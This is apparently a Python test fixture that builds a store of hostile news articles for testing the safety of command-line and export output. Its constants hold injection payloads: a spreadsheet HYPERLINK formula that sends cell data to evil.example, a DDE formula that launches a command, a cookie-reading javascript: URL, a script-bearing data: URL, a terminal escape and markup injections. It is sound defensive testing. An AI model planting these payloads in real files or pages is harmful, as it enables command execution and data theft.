"""A small store built from hostile articles: Rich markup, terminal escapes and spreadsheet
formulas in titles, authors and sentences, and `javascript:` and `data:` source URLs.

Shared by the tests of the command line (tests/test_cli_hostile.py) and of the exports
(tests/export/test_safe_outputs.py).
"""

from __future__ import annotations

import json
from pathlib import Path

from footprint.pipeline.corpus import ingest_corpus
from footprint.settings import Settings
from footprint.store import open_store

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = "[/] [link=http://evil.example]x[bold]"
ESCAPE = "\x1b]0;pwned\x07"  # a terminal escape: sets the window title
FORMULA_SENTENCE = "=cmd|' /C calc'!A0"
JAVASCRIPT_URL = "javascript:alert(document.cookie)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
WEB_URL = "https://news.example/2024/03/rally"

ARTICLES = [
    {
        "id": "doc-hostile",
        "title": f"{FORMULA_TITLE} {MARKUP}{ESCAPE}",
        "author": "[/]Mallory",
        "published": "2024-03-04",
        "url": JAVASCRIPT_URL,
        "text": f"{FORMULA_SENTENCE} Yasir Haddad, Hezbollah's envoy in Caracas [/], visited the "
        "city of Caracas on Monday [bold]. According to local media [/], Haddad met Tariq "
        "Durrani, head of Tehreek-e-Nizam.\n",
    },
    {
        "id": "doc-data-url",
        "title": "+SUM(1,2) rally in Lahore",
        "published": "2024-03-08",
        "url": DATA_URL,
        "text": "Tariq Durrani addressed a rally of Tehreek-e-Nizam supporters in Lahore on "
        "Friday, officials said.\n",
    },
    {
        "id": "doc-web",
        "title": "@Durrani speaks again",
        "published": "2024-03-09",
        "url": WEB_URL,
        "text": "Speaking in Karachi on Saturday, Tariq Durrani called for new protests.\n",
    },
]


def build_hostile_store(folder: Path, target: str) -> str:
    """Ingest the hostile articles (a .jsonl in `folder`) into the store at `target`."""
    source = folder / "hostile.jsonl"
    source.write_text("".join(json.dumps(a) + "\n" for a in ARTICLES), "utf-8")
    store = open_store(target)
    try:
        report = ingest_corpus([source], Settings.from_env({}).with_db(target), store)
    finally:
        store.close()
    assert len(report.stored) == len(ARTICLES), report.rejected
    return target
